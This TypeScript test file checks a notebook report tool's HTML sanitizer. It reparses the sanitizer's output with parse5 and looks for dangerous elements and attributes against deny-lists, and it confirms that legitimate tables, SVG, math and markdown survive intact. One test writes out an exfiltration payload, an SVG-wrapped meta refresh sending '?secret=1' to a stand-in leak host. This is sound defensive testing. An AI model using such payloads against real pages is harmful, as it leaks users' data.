// The sanitizer against the payload corpus, judged from outside: what it returns is parsed again by
// parse5 (the WHATWG parser, as a browser parses the report: inside a <div> of a standards-mode
// page, with scripting on and off) and searched for anything that runs script, navigates or loads.
// And what reports need survives it: the four committed notebooks' HTML, SVG and markdown come
// out as the same tree that went in.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { joinText } from "../../src/report/text";
import { sourceOf, type Notebook } from "../../src/notebook/notebook";
import { parseMarkdown, renderMarkdown, renderUnsanitized } from "../../src/report/markdown";
import { renderLatexOutput } from "../../src/report/math";
import { sanitizeHtml, type Policy } from "../../src/report/sanitize";
import { Slugger } from "../../src/report/slug";
import { ROOT } from "../helpers";
import { PNG } from "./fixtures";
import { payloads } from "./payloads";

const loadParse5 = () => import("parse5");
type Parse5 = Awaited<ReturnType<typeof loadParse5>>;
type Parse5Node = Parameters<Parse5["defaultTreeAdapter"]["isElementNode"]>[0];
type Parse5Parent = Parameters<Parse5["defaultTreeAdapter"]["getChildNodes"]>[0];
let parse5: Parse5 | undefined;

/** The fragment as the report's reader gets it: in a <div> of a standards-mode page. */
async function parsed(fragment: string, scriptingEnabled = true): Promise<Parse5Node> {
  parse5 ??= await loadParse5();
  return parse5.parse(`<!DOCTYPE html><html><head></head><body><div class="output-html">${fragment}</div></body></html>`, { scriptingEnabled });
}

/** The fragment parsed and written out again, as a sanitizer that only parses and serializes would hand it on. */
async function roundTrip(fragment: string): Promise<string> {
  const page = await parsed(fragment);
  const html = children(page).find((n) => n.nodeName === "html");
  const body = html && children(html).find((n) => n.nodeName === "body");
  const div = body && children(body)[0];
  if (div === undefined || parse5 === undefined) throw new Error("no container in the parsed page");
  return parse5.serialize(div as Parse5Parent);
}

function children(node: Parse5Node): Parse5Node[] {
  const own = "childNodes" in node ? (node.childNodes as Parse5Node[]) : [];
  const template = "content" in node ? ((node.content as { childNodes: Parse5Node[] }).childNodes ?? []) : [];
  return [...own, ...template];
}

const NAMESPACE: Record<string, string> = { "http://www.w3.org/2000/svg": "svg:", "http://www.w3.org/1998/Math/MathML": "math:" };

/** Elements that run script, navigate, load a document of their own or change attributes after the fact. */
const NEVER = new Set(
  "script meta base link iframe frame frameset object embed applet form input button portal noscript animate set foreignobject annotation-xml".split(" "),
);
/** Attributes that load or navigate whatever their value. */
const NEVER_ATTRIBUTES = new Set("srcdoc http-equiv action formaction ping srcset background poster lowsrc dynsrc data".split(" "));

/** A URL the page may hold: a point in it, a data: image, or a web or mail link on <a>. */
function harmlessUrl(element: string, attribute: string, value: string): boolean {
  const url = value.replace(/[\u0000-\u0020\u007f]/g, "").toLowerCase();
  if (url.startsWith("#") || /^data:image\/(png|jpeg|gif|webp|svg\+xml)[;,]/.test(url)) return true;
  return (element === "a" || element === "area") && attribute === "href" && /^(https?|mailto):/.test(url);
}

/** Everything in the parsed page that could run, navigate or load (style sheets aside: the CSP's part). */
function dangers(node: Parse5Node): string[] {
  const found: string[] = [];
  const visit = (n: Parse5Node) => {
    if ("tagName" in n) {
      const name = n.tagName.toLowerCase();
      const shown = `${NAMESPACE[n.namespaceURI] ?? ""}${n.tagName}`;
      if (NEVER.has(name)) found.push(`<${shown}>`);
      for (const { name: attribute, value, prefix } of n.attrs) {
        const full = (prefix ? `${prefix}:${attribute}` : attribute).toLowerCase();
        if (full.startsWith("on") || NEVER_ATTRIBUTES.has(full)) found.push(`<${shown} ${full}>`);
        else if (["href", "src", "xlink:href"].includes(full) && !harmlessUrl(name, full, value)) found.push(`<${shown} ${full}="${value}">`);
      }
    }
    children(n).forEach(visit);
  };
  visit(node);
  return found;
}

/** The tree as text: elements with their namespace and sorted attributes, text as it is; comments, which nobody sees, left out. */
function shape(node: Parse5Node): string {
  if (node.nodeName === "#text" && "value" in node) return JSON.stringify(node.value);
  if (node.nodeName === "#comment") return "";
  const inner = children(node).map(shape).join("");
  if (!("tagName" in node)) return inner;
  const attributes = node.attrs.map((a) => `${a.prefix ? `${a.prefix}:` : ""}${a.name}=${JSON.stringify(a.value)}`).sort();
  return `<${NAMESPACE[node.namespaceURI] ?? ""}${node.tagName}${attributes.map((a) => ` ${a}`).join("")}>${inner}</>`;
}

const LEAK = "http://127.0.0.1:9/";
const POLICIES: Policy[] = ["markdown", "output"];

test("every payload is harmful as written, or once parsed and serialized (so the check below can see it)", async () => {
  for (const { name, html, css, needsOldSerializer } of payloads(LEAK)) {
    if (css || needsOldSerializer) continue;
    const seen = dangers(await parsed(html)).length > 0 || dangers(await parsed(await roundTrip(html))).length > 0;
    assert.ok(seen, `${name}: the check sees nothing in ${html}`);
  }
});

test("no payload, sanitized as markdown or as an output, holds script, a handler, meta, base, a form, a frame or a URL that loads or runs code", async () => {
  for (const { name, html } of payloads(LEAK)) {
    for (const policy of POLICIES) {
      const clean = sanitizeHtml(html, policy);
      for (const scripting of [true, false]) {
        assert.equal(dangers(await parsed(clean, scripting)), [], `${name} as ${policy} (scripting ${scripting ? "on" : "off"}): ${clean}`);
      }
    }
  }
});

test("the report of the probe: an <svg><style> holding a meta refresh loses the meta, in an output and in a raw cell", () => {
  const html = `<svg><style><meta http-equiv="refresh" content="0;url=${LEAK}?secret=1"></style></svg>`;
  assert.is(sanitizeHtml(html, "output"), "<svg><style></style></svg>");
  assert.is(sanitizeHtml(`<p>before</p>${html}<p>after</p>`, "output"), "<p>before</p><svg><style></style></svg><p>after</p>");
});

test("what outputs need stays as it was: tables with styles and titles, style sheets, SVG drawings with glyphs, gradients and clips", async () => {
  const table =
    `<style>.dataframe td.null { font-style: italic } .a > .b { color: #333 }</style>` +
    `<table class="dataframe" border="1"><caption style="text-align:left">Users</caption><thead><tr><th style="text-align:right" title="Int64">n</th></tr></thead>` +
    `<tbody><tr><td class="null" style="text-align:right">null</td></tr></tbody></table>`;
  assert.is(sanitizeHtml(table, "output"), table);
  const svg =
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100pt" height="50pt" viewBox="0 0 100 50" version="1.1">` +
    `<defs><style type="text/css">*{stroke-linejoin: round}</style><path id="m1" d="M 0 0 L 0 3.5" style="stroke:#000"/>` +
    `<linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="red"/></linearGradient><clipPath id="c"><rect width="10" height="10"/></clipPath>` +
    `<filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs>` +
    `<g id="axes" clip-path="url(#c)"><use xlink:href="#m1" x="10" y="20"/><use href="#m1" x="20" y="20"/><rect fill="url(#g)" filter="url(#f)" width="5" height="5"/>` +
    `<text x="5" y="5" transform="rotate(-90)" font-family="sans-serif" text-anchor="middle">label</text><title>tooltip</title></g>` +
    `<image href="data:image/png;base64,iVBORw0KGgo=" width="4" height="4"/></svg>`;
  assert.is(shape(await parsed(sanitizeHtml(svg, "output"))), shape(await parsed(svg)));
});

test("what markdown needs stays: math as MathML with its TeX, details around markdown, data: images, in-page and web links, heading anchors whatever their name", async () => {
  const math = renderLatexOutput("$$\\frac{a}{b^2} + \\sqrt{x}$$");
  assert.match(math, "<annotation encoding=\"application/x-tex\">");
  assert.is(shape(await parsed(sanitizeHtml(math, "markdown"))), shape(await parsed(math)));
  // "title", "links" and "domain" are also properties of `document`: still anchors here.
  const doc = parseMarkdown(
    "# Title\n\n## Links\n\n## Domain\n\n[web](https://example.org) [mail](mailto:a@example.org) [here](#links)\n\n" +
      `<details><summary>More</summary>\n\n| a |\n|---|\n| 1 |\n\n![dot](data:image/png;base64,${PNG})\n\n</details>`,
    new Slugger(),
  );
  const html = renderMarkdown(doc);
  for (const id of ["title", "links", "domain"]) assert.match(html, `id="${id}"`);
  assert.match(html, /<details><summary>More<\/summary>\n<table>[\s\S]*<img src="data:image\/png;base64,[^"]+" alt="dot">[\s\S]*<\/details>/);
  assert.is(shape(await parsed(html)), shape(await parsed(renderUnsanitized(doc))));
});

test("an image from elsewhere in markdown becomes a note saying so; in an output it loses its source", () => {
  assert.is(
    sanitizeHtml(`<img src="https://example.org/a.png" alt="a">`, "markdown"),
    `<span class="missing-image" title="https://example.org/a.png">[image not embedded: https://example.org/a.png]</span>`,
  );
  assert.is(sanitizeHtml(`<img src="https://example.org/a.png" alt="a">`, "output"), `<img alt="a">`);
});

test("the four committed reports: every HTML and SVG output, raw HTML cell and markdown cell comes out as the same tree", async () => {
  let checked = 0;
  for (const name of ["demo", "jelly-party", "clubhouse", "unique-devices"]) {
    const nb = JSON.parse(readFileSync(join(ROOT, "reports", `${name}.ipynb`), "utf8")) as Notebook;
    const same = async (where: string, before: string, after: string) => {
      checked++;
      assert.is(shape(await parsed(after)), shape(await parsed(before)), `${name}.ipynb ${where}`);
    };
    const slugger = new Slugger();
    for (const [index, cell] of nb.cells.entries()) {
      const where = `cell ${index + 1}`;
      if (cell.cell_type === "markdown") {
        const doc = parseMarkdown(sourceOf(cell), slugger, cell.attachments);
        await same(where, renderUnsanitized(doc), renderMarkdown(doc));
      } else if (cell.cell_type === "raw") {
        const format = cell.metadata["format"] ?? cell.metadata["raw_mimetype"];
        if (format === "text/html") await same(where, sourceOf(cell), sanitizeHtml(sourceOf(cell), "output"));
      } else if (cell.cell_type === "code") {
        for (const [o, output] of (cell.outputs ?? []).entries()) {
          if (output.output_type !== "display_data" && output.output_type !== "execute_result") continue;
          const data = output.data ?? {};
          for (const mime of ["text/html", "image/svg+xml"]) {
            const html = joinText(data[mime]);
            if (html !== undefined) await same(`${where} output ${o + 1} ${mime}`, html, sanitizeHtml(html, "output"));
          }
          const markdown = joinText(data["text/markdown"]);
          if (markdown !== undefined) {
            const doc = parseMarkdown(markdown, slugger);
            await same(`${where} output ${o + 1} text/markdown`, renderUnsanitized(doc), renderMarkdown(doc));
          }
        }
      }
    }
  }
  assert.ok(checked >= 100, `only ${checked} pieces checked`);
});

test.run();
